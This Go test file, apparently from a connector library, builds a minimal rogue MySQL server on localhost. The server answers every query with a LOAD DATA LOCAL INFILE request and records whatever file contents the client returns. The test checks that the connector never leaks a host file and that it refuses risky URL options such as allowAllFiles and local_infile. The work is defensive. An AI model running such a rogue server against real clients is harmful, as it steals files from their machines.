package sql_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/connkit/connkit/check"
	"github.com/connkit/connkit/connection"
	"github.com/connkit/connkit/connector/sql"
	"github.com/connkit/connkit/registry"
	"github.com/connkit/connkit/store/memory"
)

// fileThief is a hostile MySQL server, a few dozen lines of the protocol:
// it accepts any login, and answers every query with a LOAD DATA LOCAL
// INFILE request for path, recording whatever the client sends back.
type fileThief struct {
	ln   net.Listener
	path string
	mu   sync.Mutex
	got  bytes.Buffer
	asks int
}

func newFileThief(t *testing.T, path string) *fileThief {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	f := &fileThief{ln: ln, path: path}
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				f.serve(c)
			}()
		}
	}()
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	return f
}

func writePacket(w io.Writer, seq byte, payload []byte) error {
	hdr := []byte{byte(len(payload)), byte(len(payload) >> 8), byte(len(payload) >> 16), seq}
	_, err := w.Write(append(hdr, payload...))
	return err
}

func readPacket(r io.Reader) (byte, []byte, error) {
	var hdr [4]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return 0, nil, err
	}
	n := int(hdr[0]) | int(hdr[1])<<8 | int(hdr[2])<<16
	p := make([]byte, n)
	_, err := io.ReadFull(r, p)
	return hdr[3], p, err
}

var okPacket = []byte{0, 0, 0, 2, 0, 0, 0}

func (f *fileThief) serve(c net.Conn) {
	c.SetDeadline(time.Now().Add(10 * time.Second))
	// Handshake v10: protocol 41, secure connection, plugin auth and
	// LOCAL INFILE among the capabilities; mysql_native_password.
	const caps = 0x0200 | 0x8000 | 0x80000 | 0x80 | 0x0008
	hs := []byte{10}
	hs = append(hs, "5.7.0-thief\x00"...)
	hs = binary.LittleEndian.AppendUint32(hs, 1)
	hs = append(hs, "abcdefgh"...)
	hs = append(hs, 0)
	hs = binary.LittleEndian.AppendUint16(hs, caps&0xffff)
	hs = append(hs, 33)
	hs = binary.LittleEndian.AppendUint16(hs, 2)
	hs = binary.LittleEndian.AppendUint16(hs, caps>>16)
	hs = append(hs, 21)
	hs = append(hs, make([]byte, 10)...)
	hs = append(hs, "ijklmnopqrst\x00"...)
	hs = append(hs, "mysql_native_password\x00"...)
	if writePacket(c, 0, hs) != nil {
		return
	}
	if _, _, err := readPacket(c); err != nil { // the login: any will do
		return
	}
	if writePacket(c, 2, okPacket) != nil {
		return
	}
	for {
		_, cmd, err := readPacket(c)
		if err != nil || len(cmd) == 0 || cmd[0] == 0x01 { // COM_QUIT
			return
		}
		if cmd[0] != 0x03 { // not COM_QUERY: a ping, say
			if writePacket(c, 1, okPacket) != nil {
				return
			}
			continue
		}
		f.mu.Lock()
		f.asks++
		f.mu.Unlock()
		if writePacket(c, 1, append([]byte{0xfb}, f.path...)) != nil {
			return
		}
		// The client sends the file in packets and then an empty one; a
		// client that refuses sends the empty one alone.
		seq := byte(2)
		for {
			s, p, err := readPacket(c)
			if err != nil {
				return
			}
			seq = s + 1
			f.mu.Lock()
			f.got.Write(p)
			f.mu.Unlock()
			if len(p) == 0 {
				break
			}
		}
		if writePacket(c, seq, okPacket) != nil {
			return
		}
	}
}

func (f *fileThief) stolen() (int, string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.asks, f.got.String()
}

// TestNoFileLeavesTheHost: a MySQL server that asks for a file of the host
// never gets it, through a check or a created connection. A url asking for
// allowAllFiles, cleartext passwords or server variables is refused.
func TestNoFileLeavesTheHost(t *testing.T) {
	secretFile := filepath.Join(t.TempDir(), "host-secret.txt")
	if err := os.WriteFile(secretFile, []byte("the-host-secret-contents"), 0o600); err != nil {
		t.Fatal(err)
	}
	thief := newFileThief(t, secretFile)
	addr := thief.ln.Addr().String()
	for _, q := range []string{"allowAllFiles=true", "allowCleartextPasswords=1", "allowOldPasswords=true",
		"allowFallbackToPlaintext=true", "multiStatements=true", "sql_mode=x", "local_infile=1", "tls=custom", "interpolateParams=true"} {
		if _, err := sql.Parse("mysql://x:y@" + addr + "/db?" + q); err == nil {
			t.Errorf("url with %s accepted", q)
		}
	}
	// charset makes the driver send SET NAMES, a query the thief answers
	// with its request for the file.
	url := "mysql://x:y@" + addr + "/db?charset=utf8mb4"
	reg := &registry.Registry{}
	reg.Register(sql.Type, sql.Connector{})
	c := check.New(&check.Options{Registry: reg, Timeout: 3 * time.Second})
	c.Source(context.Background(), check.Request{Type: sql.Type, Props: map[string]any{"url": url}})

	m, err := connection.New(context.Background(), memory.New(), &connection.Options{Registry: reg, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	if _, err := m.Create(context.Background(), connection.Spec{ID: "db", Type: sql.Type, Props: map[string]any{"url": url}}); err != nil {
		t.Fatal(err)
	}
	// The check asked once; wait for the connection's dial to ask too.
	deadline := time.Now().Add(10 * time.Second)
	for asks, _ := thief.stolen(); asks < 2; asks, _ = thief.stolen() {
		if time.Now().After(deadline) {
			t.Fatalf("the server was asked %d queries, want the check's and the connection's: the test proves nothing", asks)
		}
		time.Sleep(5 * time.Millisecond)
	}
	_, got := thief.stolen()
	if bytes.Contains([]byte(got), []byte("the-host-secret")) {
		t.Fatalf("the host's file reached the server: %q", got)
	}
	if got != "" {
		t.Errorf("the client sent %q in answer to the request for a file", got)
	}
}
